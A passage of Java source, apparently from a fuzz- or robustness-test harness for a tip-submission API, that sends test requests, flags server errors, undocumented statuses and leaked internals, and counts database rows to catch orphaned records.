                    HttpRequest.newBuilder(URI.create(c.url())).timeout(Duration.ofSeconds(60));
            c.headers().forEach(builder::header);
            HttpRequest.BodyPublisher publisher = c.body() == null
                    ? HttpRequest.BodyPublishers.noBody()
                    : c.chunked()
                            ? HttpRequest.BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(c.body()))
                            : HttpRequest.BodyPublishers.ofByteArray(c.body());
            request = builder.method(c.op().method().toUpperCase(), publisher).build();
        } catch (IllegalArgumentException e) {
            return null; // not expressible as an HTTP request (the client refuses it); nothing was sent
        }
        sent.incrementAndGet();
        HttpResponse<byte[]> response = null;
        // Two tries: a pooled connection may just have been closed by the server after refusing
        // another case's oversized body.
        for (int attempt = 1; response == null; attempt++) {
            try {
                response = http.send(request, HttpResponse.BodyHandlers.ofByteArray());
            } catch (IOException e) {
                if (c.body() != null && c.body().length > 1_000_000) {
                    return null; // the server refused the oversized body early and closed the connection
                }
                if (attempt == 2) {
                    fail(c, "no answer: " + e);
                    return null;
                }
            } catch (InterruptedException e) {
                Thread.currentThread().interrupt();
                return null;
            }
        }
        check(c, response);
        record(c, response);
        return response;
    }

    private void check(Case c, HttpResponse<byte[]> response) {
        int status = response.statusCode();
        statuses.merge(status, 1, Integer::sum);
        String body = new String(response.body(), StandardCharsets.UTF_8);
        if (status >= 500) {
            fail(c, "answered " + status + ": " + abbreviate(body));
            return;
        }
        if (c.op().bodiless().contains(status) && status >= 400) {
            if (!body.isEmpty()) {
                fail(c, "answered " + status + ", documented without a body, with one: " + abbreviate(body));
            }
            return;
        }
        if (!c.op().documented().contains(status) && !GENERIC.contains(status)) {
            fail(c, "answered undocumented " + status + ": " + abbreviate(body));
        }
        if (status < 400) {
            if (body.contains("\tat ") || body.contains("org.vigil.")) {
                fail(c, "answer leaks internals: " + abbreviate(body));
            }
            return;
        }
        String type = response.headers().firstValue("Content-Type").orElse("");
        if (!type.startsWith("application/problem+json")) {
            fail(c, "answered " + status + " as '" + type + "': " + abbreviate(body));
            return;
        }
        try {
            JsonNode problem = JSON.readTree(body);
            if (problem.path("status").asInt() != status) {
                fail(c, "problem status " + problem.path("status") + " differs from HTTP " + status);
            }
        } catch (IOException e) {
            fail(c, "problem body is not JSON: " + abbreviate(body));
        }
        for (String leak : LEAKS) {
            if (body.contains(leak)) {
                fail(c, "problem leaks '" + leak.trim() + "': " + abbreviate(body));
            }
        }
    }

    /** Remembers what valid answers reveal (ids, slugs, receipts) and counts what was written. */
    private void record(Case c, HttpResponse<byte[]> response) {
        if (response.statusCode() / 100 != 2) {
            return;
        }
        JsonNode body;
        try {
            body = JSON.readTree(response.body());
        } catch (IOException e) {
            return;
        }
        if (body == null) {
            return;
        }
        boolean tipCreated =
                c.op().method().equals("post") && c.op().path().equals("/api/v1/tips") && response.statusCode() == 201;
        if (tipCreated) {
            tipReferences.add(body.path("reference").asText());
        }
        if (c.op().method().equals("post")
                && c.op().path().startsWith("/api/v1/tips/")
                && c.op().path().endsWith("/messages")
                && response.statusCode() == 201) {
            // a repeated Idempotency-Key on the same tip answers 201 again without a new message
            String key = c.headers().get("Idempotency-Key");
            if (key == null || messageKeys.add(c.url() + " " + key)) {
                messagesCreated.incrementAndGet();
            }
        }
        if (!c.label().equals("valid") || !body.isObject()) {
            return;
        }
        Map<String, String> fields = harvested.computeIfAbsent(
                c.op().path().replaceAll("/\\{[^}]+}.*$", ""), k -> new ConcurrentHashMap<>());
        body.fields().forEachRemaining(f -> {
            if (f.getValue().isValueNode() && !f.getValue().isNull()) {
                fields.putIfAbsent(f.getKey(), f.getValue().asText());
            }
        });
    }

    private void fail(Case c, String what) {
        failures.add(c.op().id() + " [" + c.label() + "] " + abbreviate(c.url().replace(base, "")) + " -> " + what);
    }

    private Map<String, Long> tipRowCounts() throws SQLException {
        Map<String, Long> counts = new LinkedHashMap<>();
        try (Connection connection = dataSource.getConnection();
                Statement statement = connection.createStatement()) {
            for (String table : List.of("tip", "tip_message", "tip_attachment", "tip_identifier")) {
                try (ResultSet rows = statement.executeQuery("SELECT COUNT(*) FROM " + table)) {
                    rows.next();
                    counts.put(table, rows.getLong(1));
                }
            }
            try (ResultSet rows =
                    statement.executeQuery("SELECT (SELECT COUNT(*) FROM tip_identifier i WHERE NOT EXISTS"
                            + " (SELECT 1 FROM tip t WHERE t.id = i.tip_id)) + (SELECT COUNT(*) FROM tip_message m WHERE NOT EXISTS"
                            + " (SELECT 1 FROM tip t WHERE t.id = m.tip_id))")) {
                rows.next();
                counts.put("orphans", rows.getLong(1));
            }
        }
        return counts;
    }

    // ---------------------------------------------------------------- small helpers

    private Map<String, String> withAuth(Op op, Map<String, String> headers) {
        Map<String, String> all = new LinkedHashMap<>(validCase(op).headers());
        all.putAll(headers);
        return all;
    }

    private String token(Op op) {
        List<String> allowed = op.allowedRoles().isEmpty() ? roles : op.allowedRoles();
        String role = allowed.get(0);
        return Tokens.bearer("campaign-" + role, role);
    }

    private static String contentTypeHeader(String type) {
        return type.startsWith("multipart/") && !type.contains("boundary") ? type + "; boundary=campaign" : type;
    }

    private <T> T pick(List<T> options) {
        return options.get(random.nextInt(options.size()));
    }

    private static String encode(String value) {
        StringBuilder out = new StringBuilder();
        for (byte b : value.getBytes(StandardCharsets.UTF_8)) {
            int c = b & 0xFF;
            if ((c >= 'a' && c <= 'z')
                    || (c >= 'A' && c <= 'Z')
                    || (c >= '0' && c <= '9')
                    || c == '-'
                    || c == '_'
                    || c == '.'
                    || c == '~') {
                out.append((char) c);
            } else {
                out.append('%').append(String.format("%02X", c));
            }
        }
        return out.toString();
    }

    /** A raw segment as sent, with only the characters URI syntax forbids encoded. */
    private static String raw(String value) {
        return value.replace(" ", "%20")
                .replace("\\", "%5C")
                .replace("\"", "%22")
                .replace("<", "%3C")
                .replace(">", "%3E");
    }

    private static String abbreviate(String value) {
        if (value == null) {
            return "(none)";
        }
        String flat = value.replace("\n", "\\n").replace("\r", "\\r").replace("\t", "\\t");
        return flat.length() <= 160 ? flat : flat.substring(0, 150) + "...(" + flat.length() + " chars)";
    }

    private static Iterable<JsonNode> iterable(JsonNode node) {
        List<JsonNode> list = new ArrayList<>();
        Iterator<JsonNode> it = node.elements();
        it.forEachRemaining(list::add);
        return list;
    }
}
